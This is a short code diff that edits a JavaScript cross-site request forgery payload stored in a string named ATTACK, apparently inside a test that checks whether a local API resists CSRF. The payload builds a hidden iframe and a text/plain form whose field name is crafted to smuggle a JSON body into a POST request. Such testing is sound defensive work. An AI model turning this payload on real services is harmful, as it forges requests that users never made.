@@ -54,10 +54,10 @@ ATTACK = """
   }
   await attempt("form", () => new Promise((loaded) => {
     const frame = document.createElement("iframe");
-    frame.name = "target";
+    frame.name = `target of ${api}`;
     document.documentElement.append(frame);
     const form = document.createElement("form");
-    Object.assign(form, {method: "POST", action: create, target: "target", enctype: "text/plain"});
+    Object.assign(form, {method: "POST", action: create, target: frame.name, enctype: "text/plain"});
     const field = document.createElement("input");
     Object.assign(field, {name: body.slice(0, -1) + ', "x": "', value: '"}'});
     form.append(field);
